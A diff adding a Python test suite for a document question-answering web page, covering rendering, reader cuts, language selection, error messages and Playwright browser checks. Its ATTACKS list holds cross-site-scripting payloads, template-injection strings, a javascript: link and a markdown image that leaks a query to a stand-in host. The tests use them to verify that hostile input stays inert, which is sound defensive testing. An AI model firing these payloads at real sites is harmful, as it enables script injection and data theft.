@@ -1,0 +1,522 @@
+"""The web page: its HTML, and the whole of it in a real browser on a real index."""
+
+import shutil
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from index.documents import Chunk, Document, Heading, Hit, Place, document_id
+from index.errors import UnknownDocument
+from index.store import DocumentSummary
+from rag.answer import Answer, Citation, Dropped, Receipt, Sentence
+from rag.chatbot import Status
+from rag.errors import EmptyQuestion, QuestionTooLong
+from rag.question import Question, Turn
+from tests.test_serve import Server, fonte, serving
+from ui.examples import examples
+from ui.faults import explain
+from ui.library import Library
+from ui.markdown import answer_markdown
+from ui.page import Page, pieces
+from ui.words import ENGLISH, ITALIAN, LANGUAGES, preferred
+
+ATTACKS = (
+    "<script>window.broken = 1</script>",
+    "<img src=x onerror='window.broken = 1'>",
+    '"><svg onload="window.broken = 1">',
+    "' onmouseover='window.broken = 1",
+    "</span></button></details><style>body { display: none }</style>",
+    "![x](https://evil.example/?q=secret) [click](javascript:window.broken=1)",
+    "{{ 7 * 7 }} ${window.broken = 1} {% raw %} `x` <!-- --> &lt;b&gt;",
+    "[1]: https://evil.example/ <https://evil.example>",
+)
+
+
+class Shelf:
+    """A corpus that holds documents and nothing else."""
+
+    generation = 1
+
+    def __init__(self, *documents: Document) -> None:
+        self._documents = {document.id: document for document in documents}
+
+    def document(self, document_id: str) -> Document:
+        if document_id not in self._documents:
+            raise UnknownDocument(document_id)
+        return self._documents[document_id]
+
+    def languages(self) -> frozenset[str]:
+        return frozenset(document.language for document in self._documents.values())
+
+    def summaries(self) -> list[DocumentSummary]:
+        return [
+            DocumentSummary(d.id, d.collection, d.uri, d.title, d.language, d.published, 1)
+            for d in self._documents.values()
+        ]
+
+
+def a_document(text: str, title: str = "Title", uri: str = "notes/a.md", **more: Any) -> Document:
+    return Document(document_id("default", uri), "default", uri, title, "it", text, **more)
+
+
+def an_answer(document: Document, question: str, start: int, end: int, outcome: str = "answered") -> Answer:
+    quote = document.text[start:end]
+    citation = Citation(1, document.id, document.title, document.uri, "p. 1", start, end, quote, "2024-06-04")
+    chunk = Chunk(1, document.id, 0, len(document.text), document.text)
+    answered = outcome == "answered"
+    return Answer(
+        question=question,
+        query=question,
+        language="en",
+        outcome="answered" if answered else "refused",
+        sentences=(Sentence(quote, (citation,), "quoted"),) if answered else (),
+        text=quote if answered else f"No document mentions {question}.",
+        hits=(Hit(chunk, 0.5, ("dense",)),),
+        receipt=Receipt("none", "minilm", 1, {}, 0.75, {"total": 12.0}),
+        dropped=(Dropped(quote, (quote,)),),
+    )
+
+
+class Parsed(HTMLParser):
+    """What a browser would make of HTML: its elements with their attributes, and its words."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.words = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
+    """Return elements and the names of their attributes: what text must never be able to change."""
+    return [(tag, tuple(sorted(attributes))) for tag, attributes in Parsed(html).elements]
+
+
+def everything(attack: str) -> list[str]:
+    """Return every kind of HTML that is made, with an attack in every place that others may write."""
+    hostile = a_document(f"{attack} Coda.", attack, attack, metadata={"source": attack})
+    page = Page(ENGLISH)
+    shelf: Any = Shelf(hostile)
+    return [
+        page.turn(1, an_answer(hostile, attack, 0, len(attack)), shelf, [attack]),
+        page.turn(1, an_answer(hostile, attack, 0, len(attack), "refused"), shelf, [attack]),
+        page.reader(hostile, 0, len(attack)),
+        page.library(Library(shelf).documents(), 1),
+        page.examples([attack]),
+        page.working(attack, attack),
+        page.status(attack),
+    ]
+
+
+class TestInert:
+    @pytest.mark.parametrize("attack", ATTACKS)
+    def test_an_attack_is_words(self, attack: str) -> None:
+        for harmless, hostile in zip(everything("plain"), everything(attack), strict=True):
+            assert shape(hostile) == shape(harmless)
+            assert " ".join(attack.split()) in " ".join(Parsed(hostile).words.split())
+
+    @given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1).filter(str.strip))
+    def test_any_text_is_words(self, text: str) -> None:
+        for harmless, hostile in zip(everything("plain"), everything(text), strict=True):
+            assert shape(hostile) == shape(harmless)
+
+    def test_no_template_runs_or_loads_anything(self) -> None:
+        for html in everything("plain"):
+            for tag, attributes in Parsed(html).elements:
+                assert tag not in {"script", "style", "img", "iframe", "a", "link", "object", "form", "svg"}
+                assert not [name for name in attributes if name.startswith("on") or name in {"href", "src", "style"}]
+
+    @pytest.mark.parametrize("attack", ATTACKS)
+    def test_copied_markdown_makes_nothing_of_it(self, attack: str) -> None:
+        from markdown_it import MarkdownIt
+
+        hostile = a_document(attack, attack, attack)
+        tokens = MarkdownIt("commonmark").parse(answer_markdown(an_answer(hostile, attack, 0, len(attack))))
+        kinds = {child.type for token in tokens for child in (token, *(token.children or []))}
+        assert not kinds & {"link_open", "image", "html_inline", "html_block", "code_inline", "heading_open"}
+
+
+class TestReader:
+    TEXT = "Titolo\n\nPrimo paragrafo. Seconda frase.\n\nAltro"
+    DOCUMENT = a_document(TEXT, pages=(Place(0, "p. 1"), Place(25, "p. 2")), headings=(Heading(0, 6, 1, "Titolo"),))
+
+    def test_shows_the_stored_text_and_nothing_else(self) -> None:
+        for start, end in ((0, 0), (0, 6), (3, 30), (8, 24), (40, len(self.TEXT))):
+            found = pieces(self.DOCUMENT, start, end, 0, len(self.TEXT))
+            assert "".join(piece.text for piece in found) == self.TEXT
+            assert "".join(piece.text for piece in found if piece.cited) == self.TEXT[start:end]
+        assert [piece.label for piece in found if piece.label] == ["p. 1", "p. 2"]
+
+    @given(st.text(), st.integers(0, 50), st.integers(0, 50), st.integers(0, 50), st.integers(0, 50))
+    def test_any_cut_is_whole(self, text: str, start: int, end: int, first: int, stop: int) -> None:
+        first, stop = sorted((min(first, len(text)), min(stop, len(text))))
+        document = a_document(text, headings=(Heading(1, 4, 2, text[1:4]),))
+        found = pieces(document, start, end, first, stop)
+        assert "".join(piece.text for piece in found) == text[first:stop]
+        cited = text[max(first, start) : max(first, start, min(stop, end))]
+        assert "".join(piece.text for piece in found if piece.cited) == cited
+
+    def test_shows_a_long_document_in_parts(self) -> None:
+        text = "".join(f"Riga {number}.\n" for number in range(60_000))
+        document = a_document(text)
+        start = text.index("Riga 30000.")
+        html = Page(ENGLISH).reader(document, start, start + 11)
+        assert len(html) < 120_000
+        assert "<mark>Riga 30000.</mark>" in html
+        assert "Earlier text" in html
+        assert "Later text" in html
+        last = Page(ENGLISH).reader(document, at=len(text))
+        assert "Riga 59999." in last
+        assert "Later text" not in last
+
+
+class TestWords:
+    @pytest.mark.parametrize(
+        ("header", "language"),
+        [
+            ("it-IT,it;q=0.9,en-US;q=0.8,en;q=0.7", "it"),
+            ("en-GB,en;q=0.9,it;q=0.8", "en"),
+            ("de-DE,de;q=0.9,it;q=0.3,en;q=0.2", "it"),
+            ("de", "en"),
+            ("", "en"),
+            ("it;q=0", "en"),
+            ("*;q=0.1, IT", "it"),
+            ("it;q=x,,;;", "en"),
+        ],
+    )
+    def test_the_language_that_a_browser_asks_for(self, header: str, language: str) -> None:
+        assert preferred(header) == language
+
+    @given(st.text())
+    def test_any_header_gives_a_language(self, header: str) -> None:
+        assert preferred(header) in LANGUAGES
+
+    def test_examples_are_names_that_titles_share_and_then_titles(self) -> None:
+        titles = ["Nvidia, le GPU di Tesla", "Pika incassa 80 milioni", "Chi c'è dietro Pika", "Tesla giù in Borsa"]
+        asked = examples(titles, ITALIAN)
+        assert asked[:2] == ["Che cosa dicono i documenti su Tesla?", "Che cosa dicono i documenti su Pika?"]
+        assert len(asked) == 4
+        assert "«Nvidia, le GPU di Tesla»" in asked[2]
+        assert examples([], ENGLISH) == []
+        assert "“The Rise And Fall”" in examples(["The Rise And Fall"], ENGLISH)[0]
+
+
+class TestFaults:
+    def test_a_known_one_is_a_sentence_in_the_language_of_the_page(self) -> None:
+        assert explain(EmptyQuestion("empty"), ITALIAN) == "Scrivi prima una domanda."
+        assert "2,000" in explain(QuestionTooLong("long"), ENGLISH)
+        assert "2.000" in explain(QuestionTooLong("long"), ITALIAN)
+        assert explain(UnknownDocument("gone"), ENGLISH) == "This document is no longer in the index."
+
+    def test_an_unforeseen_one_is_an_id_that_the_log_has(self, caplog: pytest.LogCaptureFixture) -> None:
+        told = explain(RuntimeError("no space left on /srv/fonte"), ENGLISH)
+        assert "/srv" not in told
+        assert told.rstrip(".").rpartition(" ")[2] in caplog.text
+        assert "no space left on /srv/fonte" in caplog.text
+
+
+@pytest.mark.slow
+@pytest.mark.filterwarnings("ignore")  # Gradio's own, of its dependencies
+class TestDesk:
+    def test_a_fault_in_the_middle_of_an_answer_leaves_the_conversation_as_it_was(self) -> None:
+        from ui.web import Conversation, Desk
+
+        class Broken:
+            corpus = Shelf()
+
+            def stream(self, question: Question) -> Iterator[Status]:
+                yield Status("searching")
+                raise RuntimeError("no space left on /srv/fonte")
+
+        broken: Any = Broken()
+        before = Conversation((Turn("a", "b"),), "<p>b</p>", "<p>earlier</p>")
+        *_, last = Desk(broken, Library(broken.corpus), ENGLISH).ask("why?", before, [])
+        text, told, current, earlier, conversation, _ = last
+        assert (text, current, earlier, conversation) == ("why?", before.current, before.earlier, before)
+        assert "Something went wrong" in told
+        assert "/srv" not in "".join(str(part) for part in last)
+
+
+HEADLINE = "why were Tesla's GPUs delayed?"
+ABSENT = "Who won the 1998 World Cup?"
+CHROMIUM = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"]
+CHROMIUM += ["--disable-background-networking", "--disable-component-update", "--disable-sync"]
+
+Opener = Callable[..., Any]
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """Serve seeds/ and a collection of documents that mean harm."""
+    data, harmful = tmp_path_factory.mktemp("web"), tmp_path_factory.mktemp("harmful")
+    for number, attack in enumerate(ATTACKS):
+        title = attack.replace("\\", "").replace('"', "'")
+        words = f"The lighthouse keeper of Vellamo counted {number + 3} seals. {attack} He painted the lighthouse."
+        (harmful / f"<b onclick=x>{number}.txt").write_text(f"{title}\n\n{words}\n")
+    for folder, collection in (("seeds", "default"), (str(harmful), "harmful")):
+        made = fonte("sync", folder, "--data", str(data), "--collection", collection)
+        assert made.returncode == 0, made.stderr
+    with serving(data) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Any]:
+    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if program is None:
+        pytest.skip("no Chromium on this machine: apt-get install chromium")
+    playwright = pytest.importorskip("playwright.sync_api", reason="pip install playwright")
+    with playwright.sync_playwright() as tool:
+        browser = tool.chromium.launch(executable_path=program, args=CHROMIUM)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def opened(server: Server, chromium: Any) -> Iterator[Opener]:
+    """Return a function that opens the page in a session of its own; at the end, no page may have complained."""
+    complaints: list[str] = []
+
+    def foreign(url: str) -> list[str]:
+        return [] if url.startswith((server.url, "data:")) else [url]
+
+    with ExitStack() as stack:
+
+        def open_page(**context: Any) -> Any:
+            context = {"viewport": {"width": 1280, "height": 800}, "locale": "en-GB", **context}
+            session = chromium.new_context(**context)
+            stack.callback(session.close)
+            page = session.new_page()
+            page.set_default_timeout(60_000)
+            page.on("console", lambda said: complaints.append(said.text) if said.type in {"error", "warning"} else None)
+            page.on("pageerror", lambda error: complaints.append(str(error)))
+            page.on("dialog", lambda dialog: complaints.append(dialog.message))
+            page.on("request", lambda sent: complaints.extend(foreign(sent.url)))
+            page.goto(server.url)
+            page.wait_for_selector("#ask")
+            page.wait_for_selector(".example")
+            return page
+
+        yield open_page
+    assert complaints == []
+
+
+def ask(page: Any, question: str) -> None:
+    page.fill("#question textarea", question)
+    page.press("#question textarea", "Enter")
+    page.wait_for_function(
+        "question => document.querySelector('#current .turn:not(.working) .asked')?.textContent === question",
+        arg=question,
+    )
+
+
+def overflow(page: Any) -> int:
+    wide: int = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+    return wide
+
+
+@pytest.mark.slow
+class TestBrowser:
+    def test_every_sentence_ends_in_marks_that_show_their_quote(self, opened: Opener) -> None:
+        page = opened()
+        ask(page, HEADLINE)
+        sentences = page.locator("#current .sentence")
+        assert sentences.count() >= 1
+        for sentence in sentences.all():
+            assert sentence.locator(".mark").count() >= 1
+            text = sentence.locator("> span[lang]").first.text_content()
+            sentence.locator(".mark").first.hover()
+            page.wait_for_selector("#quote:not([hidden])")
+            assert page.locator("#quote q").text_content() == text
+            assert page.locator("#quote b").text_content()
+        page.keyboard.press("Escape")
+        assert page.locator("#quote").is_hidden()
+        assert "Answered from" in page.locator("#status [role=status]").text_content()
+        assert page.locator("#current .sources li").count() >= 1
+
+    def test_a_click_opens_the_document_at_the_quote(self, opened: Opener) -> None:
+        page = opened()
+        ask(page, HEADLINE)
+        marks = page.locator("#current .mark")
+        for number in range(marks.count()):
+            marks.nth(number).click()
+            quote = page.locator("#current .card q").nth(number).text_content()
+            page.wait_for_function(
+                "quote => [...document.querySelectorAll('#reader mark')].map(p => p.textContent).join('') === quote",
+                arg=quote,
+            )
+            highlighted = page.locator("#reader mark").first
+            assert highlighted.is_visible()
+            place, frame = highlighted.bounding_box(), page.locator("#reader .page").bounding_box()
+            assert frame["y"] <= place["y"] < frame["y"] + frame["height"]
+        page.click("#reader .close")
+        assert page.locator("#reader").is_hidden()
+
+    def test_a_quote_that_is_no_longer_in_its_place_is_not_highlighted(self, opened: Opener) -> None:
+        page = opened()
+        ask(page, HEADLINE)
+        page.evaluate("document.querySelector('#current .card q').textContent = 'What it said before.'")
+        page.locator("#current .mark").first.click()
+        page.wait_for_selector("#reader .notice")
+        assert "has changed since" in page.locator("#reader .notice").text_content()
+        assert page.locator("#reader mark").count() == 0
+
+    def test_keyboard_alone(self, opened: Opener) -> None:
+        page = opened()
+        page.focus("#question textarea")
+        page.keyboard.type(HEADLINE)
+        page.keyboard.press("Enter")
+        page.wait_for_selector("#current .answered")
+        for _ in range(12):
+            page.keyboard.press("Tab")
+            if page.evaluate("document.activeElement.matches('.mark')"):
+                break
+        assert page.locator("#quote").is_visible()
+        described = page.evaluate("document.activeElement.getAttribute('aria-describedby')")
+        assert page.locator(f"#{described} q").text_content() == page.locator("#quote q").text_content()
+        page.keyboard.press("Enter")
+        page.wait_for_selector("#reader mark")
+        page.wait_for_function("document.activeElement.id === 'reader-title'")
+        page.keyboard.press("Escape")
+        assert page.locator("#reader").is_hidden()
+        assert page.evaluate("document.activeElement.matches('.mark')")
+
+    def test_a_refusal_looks_like_one(self, opened: Opener) -> None:
+        page = opened()
+        ask(page, ABSENT)
+        assert page.locator("#current .turn.refused .refusal").is_visible()
+        assert page.locator("#current .sentence, #current .mark").count() == 0
+        assert "not an answer" in page.locator("#current").text_content()
+        page.locator("#current .nearest .open").first.click()
+        page.wait_for_selector("#reader mark")
+
+    def test_copies_the_answer_with_its_sources(self, opened: Opener) -> None:
+        page = opened(permissions=["clipboard-read", "clipboard-write"])
+        ask(page, HEADLINE)
+        page.click("#current .copy")
+        page.wait_for_function("document.querySelector('.copy').textContent === 'Copied.'")
+        copied = page.evaluate("navigator.clipboard.readText()")
+        assert copied.startswith(f"**{HEADLINE}**")
+        assert "[1]" in copied
+        assert "seeds/" in copied
+
+    def test_the_receipt_stays_open_over_a_follow_up_and_a_new_conversation_ends_it(self, opened: Opener) -> None:
+        page = opened()
+        ask(page, HEADLINE)
+        page.click("#current summary")
+        assert page.locator("#current .receipt dl").is_visible()
+        assert HEADLINE in page.locator("#current .receipt dd").first.text_content()
+        ask(page, "E quanto valgono?")
+        assert page.locator("#earlier .asked").all_text_contents() == [HEADLINE]
+        assert page.locator("#earlier .receipt dl").is_visible()
+        assert page.locator("#current .receipt dl").is_hidden()
+        page.click("#new")
+        page.wait_for_function("!document.querySelector('.turn')")
+        assert page.locator(".example").first.is_visible()
+
+    def test_sessions_are_not_mixed(self, opened: Opener) -> None:
+        first, second = opened(), opened()
+        ask(first, HEADLINE)
+        ask(second, "Quanto ha raccolto Pika?")
+        ask(first, "Chi sono gli azionisti?")
+        assert first.locator(".asked").all_text_contents() == ["Chi sono gli azionisti?", HEADLINE]
+        assert second.locator(".asked").all_text_contents() == ["Quanto ha raccolto Pika?"]
+
+    def test_an_example_asks_itself(self, opened: Opener) -> None:
+        page = opened()
+        question = page.locator(".example").first.text_content()
+        page.locator(".example").first.click()
+        page.wait_for_selector("#current .turn:not(.working)")
+        assert page.locator("#current .asked").text_content() == question
+
+    def test_a_question_that_is_none_is_a_sentence(self, opened: Opener) -> None:
+        page = opened()
+        page.click("#ask")
+        page.wait_for_selector(".told.wrong")
+        assert page.locator(".told").text_content() == "Write a question first."
+        page.fill("#question textarea", "why " * 600)
+        page.click("#ask")
+        page.wait_for_function("document.querySelector('.told').textContent.includes('2,000')")
+        assert page.locator("#question textarea").input_value().startswith("why why")
+
+    def test_italian(self, opened: Opener) -> None:
+        page = opened(locale="it-IT")
+        assert page.locator("html").get_attribute("lang") == "it"
+        assert page.locator("#ask").text_content().strip() == "Chiedi"
+        assert "documenti" in page.locator(".example").first.text_content()
+        ask(page, ABSENT)
+        assert "Nessuna risposta" in page.locator("#current").text_content()
+
+    def test_360_pixels_hold_everything(self, opened: Opener) -> None:
+        page = opened(viewport={"width": 360, "height": 740}, has_touch=True)
+        assert overflow(page) <= 0
+        ask(page, HEADLINE)
+        page.click("#current summary")
+        assert overflow(page) <= 0
+        page.locator("#current .mark").first.tap()
+        page.wait_for_selector("#reader mark")
+        assert overflow(page) <= 0
+        assert page.locator("#reader").bounding_box()["width"] >= 345
+        assert page.evaluate("document.querySelector('gradio-app').inert")
+        page.click("#reader .close")
+        ask(page, ABSENT)
+        assert overflow(page) <= 0
+        page.get_by_role("tab", name="Library").click()
+        page.wait_for_selector(".library .open")
+        assert overflow(page) <= 0
+
+    def test_dark(self, opened: Opener) -> None:
+        page = opened(color_scheme="dark")
+        for element in ("body", "gradio-app", "#question textarea"):
+            colour = page.evaluate(
+                "name => getComputedStyle(document.querySelector(name)).backgroundColor.match(/\\d+/g)", element
+            )
+            assert sum(int(part) for part in colour[:3]) < 150, element
+
+    def test_the_library_finds_and_opens(self, opened: Opener) -> None:
+        page = opened()
+        page.get_by_role("tab", name="Library").click()
+        page.wait_for_selector(".library")
+        assert page.locator(".library tbody tr").count() == 5 + len(ATTACKS)
+        page.fill("#find input, #find textarea", "pika")
+        page.wait_for_function("document.querySelectorAll('.library tbody tr').length === 2")
+        assert page.locator(".count").text_content() == f"2 of {5 + len(ATTACKS)} documents"
+        page.locator(".library .open").first.click()
+        page.wait_for_selector("#reader .stored")
+        assert "Pika" in page.locator("#reader h2").text_content()
+
+    def test_a_question_keeps_to_its_collection(self, opened: Opener) -> None:
+        page = opened()
+        page.locator("#scope").get_by_label("harmful").check()
+        ask(page, HEADLINE)
+        assert page.locator("#current .scope").text_content() == "Search in: harmful"
+        uris = page.locator("#current .place").all_text_contents()
+        assert not [uri for uri in uris if "seeds/" in uri]
+
+    def test_documents_that_mean_harm_are_words(self, opened: Opener) -> None:
+        page = opened()
+        page.locator("#scope").get_by_label("harmful").check()
+        ask(page, "How many seals did the lighthouse keeper of Vellamo count?")
+        page.click("#current summary")
+        for opener in page.locator("#current .receipt .open").all():
+            opener.click()
+            page.wait_for_selector("#reader mark")
+            assert "lighthouse keeper" in page.locator("#reader .stored").text_content()
+            page.click("#reader .close")
+        page.get_by_role("tab", name="Library").click()
+        page.wait_for_selector(".library")
+        assert page.locator("img, iframe, #rooms script, #rooms style, #reader script, #reader svg").count() == 0
+        assert page.evaluate("window.broken") is None
+        assert page.locator("#desk").count() == 1
